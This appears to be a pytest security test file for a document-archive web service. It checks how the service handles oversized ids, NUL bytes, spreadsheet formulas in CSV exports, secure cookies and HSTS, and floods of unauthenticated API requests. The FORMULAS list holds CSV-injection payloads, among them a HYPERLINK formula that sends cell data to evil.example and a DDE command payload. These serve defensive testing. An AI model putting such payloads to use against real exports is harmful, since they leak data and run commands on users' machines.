"""Hostile requests to the service (issue 17, item 11, and the API's unauthenticated flood of
item 9): ids beyond the database's integers, spreadsheet formulas in the history export,
cookies and HSTS behind TLS, bad tokens by the hundred. Each attempt with its expected
outcome; the real app over HTTP on the real catalogue."""
from __future__ import annotations

import csv
import io
import sys
import time
from pathlib import Path

import pytest

sys.path.insert(0, str(Path(__file__).resolve().parents[1]))

from conftest import serve_ui  # noqa: E402
from sohoa.archive.catalogue import Catalogue, utcnow  # noqa: E402
from sohoa.archive.models import AuditEvent, RegistryHistory  # noqa: E402
from sohoa.core.config import load_settings  # noqa: E402
from sqlalchemy import func, select  # noqa: E402
from test_ui import DOC, PASSWORD, _item, cat  # noqa: E402,F401  (the fixture)

from security.service_http import CSRF_RE, catalogue_with, csrf, try_login, ui_client  # noqa: E402

ROOT = Path(__file__).resolve().parents[2]
BIG = 99999999999999999999999  # beyond SQLite's 64-bit integers (OverflowError: the old 500)
PAST_INT64 = 2 ** 63
PAST_INT32 = 2 ** 31  # beyond PostgreSQL's INTEGER

# (method, path, expected status): the corpus of hostile ids, for a signed-in verifier
HOSTILE_IDS = [
    ("GET", f"/ui/items/{BIG}", 404),
    ("GET", f"/ui/items/{PAST_INT64}", 404),
    ("GET", f"/ui/items/{PAST_INT32}", 404),
    ("GET", f"/ui/items/-{PAST_INT64}", 404),
    ("GET", f"/ui/items/{PAST_INT32 - 1}", 404),  # a real integer naming no item
    ("GET", f"/ui/items/{BIG}/crop.png", 404),
    ("POST", f"/ui/items/{PAST_INT64}/take", 404),
    ("POST", f"/ui/items/{BIG}/act", 404),
    ("POST", f"/ui/corrections/{BIG}/approve", 404),
    ("POST", f"/ui/corrections/{PAST_INT32}/reject", 404),
    ("GET", f"/ui/documents/{DOC}?item={BIG}", 404),
    ("GET", f"/ui/documents/{DOC}/pages/{BIG}.png", 404),
    ("GET", "/ui/items/1e400", 422),
    ("GET", "/ui/items/abc", 422),
    # a NUL character: PostgreSQL refuses it in text (the query failed: a 500)
    ("GET", "/ui/records/R%001", 404),
    ("GET", "/ui/records/R%001/history.csv", 404),
    ("GET", f"/ui/documents/{DOC}%00", 404),
    ("GET", "/ui/queue?batch=B1%00&court=%00", 422),
    ("POST", "/ui/records/R1%00/follow-up", 404),
]
# (path, form, expected status): hostile forms, CSRF token added
HOSTILE_FORMS = [
    ("/ui/records/R1/follow-up", {"note": "theo dõi\x00"}, 400),
    ("/ui/items/{iid}/act", {"action": "correct", "value": "10", "reason": "Điều 18\x00"}, 400),
    ("/ui/records/R1/follow-up", {"note": "x" * 100_000}, 303),  # long, but text
]


def test_ids_beyond_the_database_integers_are_not_found(cat, tmp_path):
    """SQLite overflowed (a 500) and PostgreSQL's INTEGER is 32 bits: each answers 404, never 500."""
    c = ui_client(cat, tmp_path)
    assert try_login(c, "anh", PASSWORD).status_code == 303
    token = csrf(c, "/ui/queue")
    outcomes = [(m, p, (c.get(p) if m == "GET" else c.post(p, data={"csrf": token, "action": "keep"}))
                 .status_code) for m, p, _ in HOSTILE_IDS]
    assert outcomes == HOSTILE_IDS
    iid = _item(cat, "penalty_months")
    forms = [(p, f, c.post(p.format(iid=iid), data={"csrf": token, **f}, follow_redirects=False).status_code)
             for p, f, _ in HOSTILE_FORMS]
    assert forms == HOSTILE_FORMS
    assert c.get(f"/ui/items/{_item(cat, 'penalty_months')}").status_code == 200  # a real one still shows


FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")', "+1+cmd|' /C calc'!A0", "-2+3",
            "@SUM(A1:A9)", "\t=1+1", "\r=1+1", "=1+1"]


@pytest.mark.parametrize("catalogue_url", ["sqlite"], indirect=True)
def test_history_csv_neutralises_spreadsheet_formulas(cat, tmp_path):
    """Every text cell of the history CSV a user or the registry could write: none starts a
    formula; the JSON export keeps the values exactly."""
    now = utcnow()
    with cat.session() as s:
        for i, f in enumerate(FORMULAS):
            s.add(RegistryHistory(record_id="R1", at=now, actor=f, field=f[:60], old_value=f, new_value=f"{f}#{i}",
                                  reason=f, approved_by=f))
    c = ui_client(cat, tmp_path)
    assert try_login(c, "vera", PASSWORD).status_code == 303
    r = c.get("/ui/records/R1/history.csv")
    assert r.status_code == 200 and r.headers["content-type"].startswith("text/csv")
    rows = list(csv.reader(io.StringIO(r.text.lstrip("\ufeff"))))
    assert len(rows) == 1 + len(FORMULAS)
    cells = [cell for row in rows[1:] for cell in row]
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert "'" + FORMULAS[0] in cells and "'@SUM(A1:A9)" in cells
    exact = c.get("/ui/records/R1/history.json").json()
    assert sorted(h["reason"] for h in exact) == sorted(FORMULAS)  # the JSON is data, not a sheet


def test_serve_secure_cookies_marks_cookies_secure_and_sends_hsts(home, tmp_path):
    import httpx

    home.mkdir(parents=True)
    catalogue_with(f"sqlite:///{home / 'catalogue.sqlite3'}", vera="verifier").dispose()
    with serve_ui(home, "serve", "--secure-cookies") as base, httpx.Client(base_url=base) as http:
        page = http.get("/ui/login")
        assert "Secure" in page.headers["set-cookie"] and "HttpOnly" in page.headers["set-cookie"]
        token = CSRF_RE.search(page.text).group(1)
        # (httpx keeps a Secure cookie for https only: hand it over as a plain header)
        r = http.post("/ui/login", data={"csrf": token, "username": "vera", "password": PASSWORD, "next": "/ui/"},
                      headers={"cookie": f"sohoa_ui_login={token}"}, follow_redirects=False)
        assert r.status_code == 303 and "; Secure" in r.headers["set-cookie"]
        for answer in (page, r, http.get("/openapi.json"), http.get("/documents/x")):
            assert answer.headers["strict-transport-security"].startswith("max-age=31536000")
    # without it (plain HTTP, no proxy): neither
    from fastapi.testclient import TestClient

    from sohoa.servers import build_service

    plain = TestClient(build_service(load_settings(env={"SOHOA_HOME": str(home)})))
    page = plain.get("/ui/login")
    assert "Secure" not in page.headers["set-cookie"] and "strict-transport-security" not in page.headers


def test_unauthenticated_api_flood_is_throttled_with_one_audit_event(tmp_path):
    from fastapi.testclient import TestClient
    from sohoa.api.app import create_app
    from sohoa.api.tokens import create_token
    from sohoa.core.runtime import Runtime

    settings = load_settings(env={"SOHOA_HOME": str(tmp_path), "SOHOA_API_UNAUTHENTICATED_PER_MINUTE": "5"})
    cat = Catalogue(settings.database_url)
    with cat.session() as s:
        good, _ = create_token(s, "court", ["read"], actor="test")
    api = TestClient(create_app(Runtime(settings=settings, catalogue=cat, store=None, signer=None, actor="api")))
    bad = {"Authorization": "Bearer sohoa_" + "x" * 40}
    codes = [api.get(f"/documents/{DOC}", headers=bad if i % 2 else {}).status_code for i in range(40)]
    assert codes == [401] * 5 + [429] * 35
    turned = api.get(f"/documents/{DOC}")
    assert turned.headers["retry-after"] and turned.headers["x-content-type-options"] == "nosniff"
    # a caller with a valid token from the same address is served as ever
    assert api.get(f"/documents/{DOC}", headers={"Authorization": f"Bearer {good}"}).status_code == 404
    with cat.session() as s:
        refused = s.scalar(select(func.count()).select_from(AuditEvent).where(AuditEvent.outcome == "refused"))
        throttle = list(s.scalars(select(AuditEvent).where(AuditEvent.action == "api.throttle")))
    assert refused == 5 + 1  # the five served refusals and the one throttle event: not one per request
    assert [(e.object, e.detail["refused"]) for e in throttle] == [("testclient", 5)]
    cat.dispose()


def test_the_throttle_reports_how_many_it_turned_away_when_the_window_ends(tmp_path):
    """The aggregate event: at the address's first request after the window, how many were turned away."""
    from fastapi.testclient import TestClient
    from sohoa.api.app import create_app
    from sohoa.api.throttle import ThrottleMiddleware
    from sohoa.core.runtime import Runtime

    settings = load_settings(env={"SOHOA_HOME": str(tmp_path)})
    cat = Catalogue(settings.database_url)
    rt = Runtime(settings=settings, catalogue=cat, store=None, signer=None, actor="api")
    api = TestClient(ThrottleMiddleware(create_app(rt), rt, per_minute=2, window_seconds=1.5))
    assert [api.get(f"/documents/{DOC}").status_code for _ in range(5)] == [401, 401, 429, 429, 429]
    time.sleep(1.6)
    assert api.get(f"/documents/{DOC}").status_code == 401  # a new window
    with cat.session() as s:
        summary = list(s.scalars(select(AuditEvent).where(AuditEvent.action == "api.throttled")))
    assert [(e.object, e.detail["turned_away"]) for e in summary] == [("testclient", 3)]
    cat.dispose()
